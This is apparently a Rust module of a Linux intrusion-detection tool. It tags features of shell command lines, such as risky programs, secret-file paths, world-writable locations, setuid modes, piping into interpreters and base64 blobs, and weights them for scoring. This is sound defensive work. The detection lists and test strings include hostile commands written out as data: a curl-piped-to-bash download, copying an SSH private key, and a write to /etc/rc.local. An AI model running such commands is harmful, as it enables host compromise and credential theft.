//! The marks of a command line: what somebody who watches for intruders would look at.
//!
//! These lists are prior knowledge, written down from what the techniques of ATT&CK for Linux are about
//! (accounts, persistence, defences, traces, credentials, discovery, privilege, transfer, encoding,
//! impact) and from what each needs on a Linux host. They decide only *what is looked at*. What a mark
//! is worth is learned: one that a host bears every day is worth nothing there.

use std::collections::HashMap;
use std::sync::LazyLock;

use super::MOST_MARKS;
use super::lists::{DOTTED, FILES, List, PATHS, PROGRAMS, VARIABLES};
use super::words::{self, Word, last_component};

/// A mark.
#[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
pub(crate) struct Mark {
    /// Its kind.
    pub(crate) kind: &'static str,
    /// The mark itself.
    pub(crate) name: &'static str,
}

/// How many words the line has, and its marks, sorted, each once, at most [`MOST_MARKS`].
pub(super) fn of(line: &[u8]) -> (u32, Vec<Mark>) {
    let words = words::of(line);
    let mut marks = Vec::new();
    for word in &words {
        names(word, &mut marks);
        paths(word, &mut marks);
        places(word, &mut marks);
    }
    forms(line, &words, &mut marks);
    marks.sort_unstable();
    marks.dedup();
    marks.truncate(MOST_MARKS);
    (spaced_words(line), marks)
}

/// How many bits a mark of the kind costs before it counts: less for what has little use but an
/// intruder's, more for what everybody does.
pub(super) fn cost(kind: &str) -> f64 {
    if TELLING.contains(&kind) {
        6.0
    } else if COMMON.contains(&kind) {
        8.0
    } else {
        7.0
    }
}

/// Different marks that there can be.
pub(super) fn most() -> usize {
    NAMES.len() + BEGINNINGS.len() + DOTS.len() + FORMS
}

fn spaced_words(line: &[u8]) -> u32 {
    let words = line
        .split(u8::is_ascii_whitespace)
        .filter(|word| !word.is_empty());
    u32::try_from(words.count()).unwrap_or(u32::MAX)
}

/// Programs where programs are named or by their path, variables and files anywhere.
fn names(word: &Word<'_>, marks: &mut Vec<Mark>) {
    let text = word.text;
    let before = text.split(|byte| *byte == b'=').next().unwrap_or(text);
    let variable = before.first().is_some_and(u8::is_ascii_uppercase);
    let name = last_component(text);
    let by_path = name.len() < text.len() && contains(text, b"bin/");
    let found = NAMES.get(if variable { before } else { name });
    let Some((mark, role)) = found else { return };
    let here = match role {
        Role::Program => word.program || by_path,
        Role::Variable => variable,
        Role::File => true,
    };
    if here {
        marks.push(*mark);
    }
}

fn paths(word: &Word<'_>, marks: &mut Vec<Mark>) {
    let text = word.text;
    let Some(first) = text
        .first()
        .filter(|first| matches!(first, b'/' | b'.' | b'~' | b'a'..=b'z' | b'A'..=b'Z'))
    else {
        return;
    };
    let mut slashes = text.iter().enumerate().filter(|(_, byte)| **byte == b'/');
    if *first == b'/' {
        add_beginnings(&BEGINNINGS, text, marks);
    }
    if *first == b'.' {
        add_beginnings(&DOTS, text, marks);
    }
    let dotted = slashes.find(|(place, _)| text.get(place + 1) == Some(&b'.'));
    if let Some((place, _)) = dotted {
        add_beginnings(&DOTS, &text[place + 1..], marks);
    }
}

fn add_beginnings(all: &[Mark], text: &[u8], marks: &mut Vec<Mark>) {
    let found = all
        .iter()
        .filter(|mark| text.starts_with(mark.name.as_bytes()));
    marks.extend(found);
}

/// What is started or written from where, and what is made executable.
fn places(word: &Word<'_>, marks: &mut Vec<Mark>) {
    let text = word.text;
    let open = OPEN_PLACES.iter().any(|place| text.starts_with(place));
    let mut add = |kind, name| marks.push(Mark { kind, name });
    if word.program && open {
        add("run", "from a place that all may write");
    }
    if word.program && text.starts_with(b"./") {
        add("run", "from here");
    }
    if word.target && open {
        add("write", "to a place that all may write");
    }
    if word.target && SYSTEM_PLACES.iter().any(|place| text.starts_with(place)) {
        add("write", "to a place of the system");
    }
    if text == b"/" || text == b"/*" {
        add("root", "/");
    }
    if let Some(mode) = MODES.iter().find(|mode| mode.as_bytes() == text) {
        add("mode", mode);
    }
}

/// What shows only in the line as a whole.
fn forms(line: &[u8], words: &[Word<'_>], marks: &mut Vec<Mark>) {
    let mut add = |kind, name| marks.push(Mark { kind, name });
    if line.iter().any(|byte| matches!(byte, b'|' | b'>')) {
        let close: Vec<u8> = line.iter().copied().filter(|byte| *byte != b' ').collect();
        if INTO_INTERPRETER.iter().any(|form| contains(&close, form)) {
            add("pipe", "into an interpreter");
        }
        if INTO_SYSTEM.iter().any(|form| contains(&close, form)) {
            add("write", "to a place of the system");
        }
    }
    let spaced = || line.split(u8::is_ascii_whitespace);
    if spaced().any(looks_encoded) {
        add("blob", "encoded");
    }
    if line.contains(&b':') && contains(line, b"://") {
        add("address", "URL");
    }
    if words.iter().any(|word| is_address(word.text)) {
        add("address", "IP");
    }
}

/// A long word of letters and digits with as much disorder as base64 has.
fn looks_encoded(word: &[u8]) -> bool {
    if word.len() < LEAST_BLOB {
        return false;
    }
    let word = word.get(..MOST_BLOB).unwrap_or(word);
    let letter = |byte: &&u8| byte.is_ascii_alphanumeric() || matches!(**byte, b'+' | b'/' | b'=');
    let letters = word.iter().filter(letter).count();
    let mixed = word
        .iter()
        .any(|byte| byte.is_ascii_digit() || byte.is_ascii_uppercase());
    let mut seen = [false; 256];
    for byte in word {
        seen[usize::from(*byte)] = true;
    }
    let different = seen.iter().filter(|seen| **seen).count();
    mixed && letters * 20 >= word.len() * 19 && different >= LEAST_DIFFERENT
}

fn is_address(word: &[u8]) -> bool {
    let parts = word.split(|byte| *byte == b'.');
    let number =
        |part: &[u8]| !part.is_empty() && part.len() <= 3 && part.iter().all(u8::is_ascii_digit);
    word.len() <= 15 && parts.clone().count() == 4 && parts.into_iter().all(number)
}

fn contains(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// What a name stands for.
#[derive(Clone, Copy, Debug)]
enum Role {
    Program,
    Variable,
    File,
}

static NAMES: LazyLock<HashMap<&'static [u8], (Mark, Role)>> = LazyLock::new(|| {
    let programs = marks_of(PROGRAMS).map(|mark| (mark, Role::Program));
    let variables = marks_of(VARIABLES).map(|mark| (mark, Role::Variable));
    let files = marks_of(FILES).map(|mark| (mark, Role::File));
    let all = programs.chain(variables).chain(files);
    all.map(|(mark, role)| (mark.name.as_bytes(), (mark, role)))
        .collect()
});
static BEGINNINGS: LazyLock<Vec<Mark>> = LazyLock::new(|| marks_of(PATHS).collect());
static DOTS: LazyLock<Vec<Mark>> = LazyLock::new(|| marks_of(DOTTED).collect());

fn marks_of(lists: &'static [List]) -> impl Iterator<Item = Mark> {
    lists.iter().flat_map(|(kind, names)| {
        let names = names.split_whitespace();
        names.map(move |name| Mark { kind, name })
    })
}

/// Kinds that have little use but an intruder's or an administrator's on a rare day.
const TELLING: [&str; 15] = [
    "accounts",
    "start",
    "defences",
    "traces",
    "secrets",
    "capture",
    "file of accounts",
    "file of start",
    "log",
    "file of secrets",
    "blob",
    "pipe",
    "run",
    "root",
    "mode",
];
/// Kinds that everybody's commands bear.
const COMMON: [&str; 7] = [
    "look",
    "interpreter",
    "container",
    "package",
    "change",
    "open place",
    "programs",
];

/// Where everybody may write.
const OPEN_PLACES: [&[u8]; 4] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/user/"];
/// Where the system and the shells begin.
const SYSTEM_PLACES: [&[u8]; 10] = [
    b"/etc/", b"/usr/", b"/var/", b"/lib/", b"/root/", b"/boot/", b"/opt/", b"~/.", b"/bin/",
    b"/sbin/",
];
const MODES: [&str; 10] = [
    "+x", "a+x", "u+x", "+s", "u+s", "g+s", "ug+s", "777", "4755", "4777",
];
/// A pipe's end, without spaces.
const INTO_INTERPRETER: [&[u8]; 10] = [
    b"|sh",
    b"|bash",
    b"|/bin/sh",
    b"|/bin/bash",
    b"|sudosh",
    b"|sudobash",
    b"|python",
    b"|perl",
    b"|ruby",
    b"|php",
];
/// Writes that no `>` shows or whose place is not a plain path, without spaces.
const INTO_SYSTEM: [&[u8]; 6] = [
    b"tee/etc",
    b"tee-a/etc",
    b">$HOME/.",
    b">${HOME}/.",
    b"tee-a~/.",
    b"tee-a/root",
];
/// Marks that no list holds.
const FORMS: usize = 24;
/// Length from which a word may be encoded, and up to which it is looked at.
const LEAST_BLOB: usize = 24;
const MOST_BLOB: usize = 256;
/// Different characters of a word that is taken as encoded.
const LEAST_DIFFERENT: usize = 16;

#[cfg(test)]
mod tests {
    use super::*;

    fn marks(line: &str) -> Vec<(&'static str, &'static str)> {
        let (_, marks) = of(line.as_bytes());
        marks
            .into_iter()
            .map(|mark| (mark.kind, mark.name))
            .collect()
    }

    #[test]
    fn a_name_counts_as_a_program_only_where_one_is_named() {
        assert_eq!(marks("find . -name who"), []);
        assert_eq!(marks("who"), [("look", "who")]);
        assert_eq!(
            marks("x=$(/usr/bin/id -u)"),
            [("look", "id"), ("programs", "/usr/bin")]
        );
    }

    #[test]
    fn paths_count_anywhere_and_dotted_ones_as_components() {
        assert_eq!(
            marks("cp /home/ann/.ssh/id_rsa x"),
            [("file of secrets", ".ssh"), ("file of secrets", "id_rsa")]
        );
        assert!(
            marks("cat my.sshfile /tmpfile")
                .iter()
                .all(|mark| mark.1 != ".ssh")
        );
    }

    #[test]
    fn forms_are_seen_in_the_whole_line() {
        let pipe = marks("curl -s http://198.51.100.7/x | bash");
        assert!(
            pipe.contains(&("pipe", "into an interpreter")) && pipe.contains(&("address", "URL"))
        );
        let encoded = marks("echo IyEvYmluL3NoCmVjaG8gaGVsbG8gd29ybGQK | base64 -d");
        assert!(encoded.contains(&("blob", "encoded")), "{encoded:?}");
        assert!(marks("echo x >> /etc/rc.local").contains(&("write", "to a place of the system")));
        assert!(marks("/tmp/x -q").contains(&("run", "from a place that all may write")));
        assert!(marks("ping 198.51.100.7").contains(&("address", "IP")));
        assert!(!marks("cat a-very-long-name-of-a-file.with.dots").contains(&("blob", "encoded")));
    }
}
